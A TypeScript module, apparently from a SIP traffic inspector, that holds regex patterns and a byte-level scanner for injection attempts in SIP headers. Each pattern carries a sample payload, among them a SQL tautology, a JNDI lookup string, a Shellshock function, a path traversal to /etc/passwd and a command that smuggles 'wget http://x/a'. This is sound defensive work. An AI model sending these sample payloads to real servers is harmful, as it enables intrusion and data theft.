import type { SipMessageView } from "../../decode/sip/message.ts";

/** A text that means something to a database, a shell or a browser behind the SIP server, and nothing to SIP. */
interface InjectionPattern {
  readonly name: string;
  /** On decoded, lower-case text. Every repetition is bounded, so that matching is linear in the text. */
  readonly pattern: RegExp;
  readonly example: string;
}

export const INJECTION_PATTERNS: readonly InjectionPattern[] = [
  {
    name: "SQL condition",
    pattern:
      /['"]\s{0,8}\)?\s{0,8}(or|and|\|\||&&)\s{1,8}['"(]?\w{1,16}['")]?\s{0,4}(=|<|>|like\b|is\b)/,
    example: "100' or 1=1",
  },
  {
    name: "SQL union",
    pattern: /\bunion\s{1,8}(all\s{1,8})?select\b/,
    example: "1 union select 2",
  },
  {
    name: "SQL statement",
    pattern:
      /;\s{0,8}(drop\s{1,8}(table|database)|delete\s{1,8}from|insert\s{1,8}into|update\s{1,8}\w{1,32}\s{1,8}set|truncate\s{1,8}table|alter\s{1,8}table|select\s{1,8}.{1,64}\sfrom)\b/,
    example: "1; drop table sip",
  },
  { name: "SQL comment", pattern: /'\s{0,8}\)?\s{0,8}(--|#|\/\*|;)/, example: "admin'--" },
  {
    name: "SQL delay",
    pattern:
      /\b(sleep|benchmark|pg_sleep|dbms_pipe\.receive_message)\s{0,4}\(|\bwaitfor\s{1,8}delay\b/,
    example: "1 and sleep(5)",
  },
  {
    name: "script",
    pattern:
      /<\s{0,4}\/?(script|iframe|img|svg|object|embed|body)\b|javascript:|\bon(error|load|mouseover|focus)\s{0,4}=/,
    example: "<script>alert(1)</script>",
  },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text that attackers send.
  { name: "expression lookup", pattern: /\$\{[^}]{0,8}[a-z:]/, example: "${jndi:ldap://x/a}" },
  {
    name: "template",
    pattern: /\{\{\s{0,4}[^{}]{1,64}\}\}|<%[=#]?[^%]{1,64}%>|[#*]\{[^{}]{1,64}\}/,
    example: "{{7*7}}",
  },
  { name: "shell substitution", pattern: /\$\([^)]{1,64}\)|`[^`]{1,64}`/, example: "$(id)" },
  {
    name: "shell command",
    pattern:
      /(;|\||&&)\s{0,4}(\/\w{1,8}\/)?(cat|wget|curl|nc|ncat|bash|sh|rm|id|uname|whoami|ping|chmod|python3?|perl|php|telnet|tftp|echo|touch|sleep|reboot)(\s|$|["'>;|&])/,
    example: "100; wget http://x/a",
  },
  { name: "shell function", pattern: /\(\)\s{0,4}\{/, example: "() { :;}; id" },
  {
    name: "path traversal",
    pattern: /(\.\.[/\\]){2}|\/etc\/(passwd|shadow)\b/,
    example: "../../etc/passwd",
  },
  {
    name: "format string",
    pattern: /(%(0\d|\d{1,2}\$)?[nsxp][^%\s]{0,2}){3}/,
    example: "%s%s%s%n",
  },
  { name: "NUL", pattern: /\x00/, example: "100%00" },
];

/** Head bytes that are looked at; what a server reads of a longer one it reads after these. */
const HEAD_MAX = 4096;
const PERCENT = 0x25;
const scratch = Buffer.alloc(HEAD_MAX);

/** Bytes that ordinary SIP seldom has; of every pattern's text one is among them, or one of the two below. */
const ODD = 1;
/** Ordinary before "sip" and its kin, odd before all else. */
const ANGLE = 2;
/** Ordinary without a blank behind it. */
const SEMICOLON = 3;
const TRIGGERS = new Uint8Array(256);
for (const byte of Buffer.from("{$}'`|\\%\0")) TRIGGERS[byte] = ODD;
TRIGGERS[0x3c] = ANGLE;
TRIGGERS[0x3b] = SEMICOLON;
/** First letters of what stands behind "<" in SIP: sip, sips, tel, urn, http, cid. */
const URI_STARTS = bytesIn("sStTuUhHcC");
const SCRIPT_SECOND = bytesIn("cCvV");

/** What a message injects, or null. Costs one pass over the head of a message that has nothing odd in it. */
export function injectionIn(message: SipMessageView): { name: string; text: string } | null {
  const { bytes } = message;
  const { start } = message.startLine;
  const end = Math.min(message.headersEnd, start + HEAD_MAX);
  if (!hasTrigger(bytes, start, end)) return null;
  const raw = bytes.toString("latin1", start, end).toLowerCase();
  const plain = decoded(bytes, start, end);
  for (const text of plain === raw ? [raw] : [plain, raw]) {
    for (const { name, pattern } of INJECTION_PATTERNS) {
      const match = pattern.exec(text);
      if (match !== null)
        return { name, text: match[0].replace(/[^\x20-\x7e]/g, ".").slice(0, 80) };
    }
  }
  return null;
}

function hasTrigger(bytes: Uint8Array, start: number, end: number): boolean {
  for (let at = start; at < end; at++) {
    const trigger = TRIGGERS[bytes[at] as number];
    if (trigger === 0) continue;
    if (trigger === ODD) return true;
    const next = bytes[at + 1] as number;
    if (trigger === SEMICOLON) {
      if (next === 0x20 || next === 0x09) return true;
    } else if (URI_STARTS[next] !== 1 || SCRIPT_SECOND[bytes[at + 2] as number] === 1) {
      return true;
    }
  }
  return false;
}

function bytesIn(text: string): Uint8Array {
  const table = new Uint8Array(256);
  for (const byte of Buffer.from(text)) table[byte] = 1;
  return table;
}

/** Percent-escapes undone once (RFC 3261 25.1), in lower case. */
function decoded(bytes: Uint8Array, start: number, end: number): string {
  let length = 0;
  for (let at = start; at < end; at++) {
    let byte = bytes[at] as number;
    if (byte === PERCENT && at + 2 < end) {
      const high = hexOf(bytes[at + 1] as number);
      const low = hexOf(bytes[at + 2] as number);
      if (high >= 0 && low >= 0) {
        byte = high * 16 + low;
        at += 2;
      }
    }
    scratch[length++] = byte;
  }
  return scratch.toString("latin1", 0, length).toLowerCase();
}

function hexOf(byte: number): number {
  if (byte >= 0x30 && byte <= 0x39) return byte - 0x30;
  const letter = byte | 0x20;
  return letter >= 0x61 && letter <= 0x66 ? letter - 0x57 : -1;
}
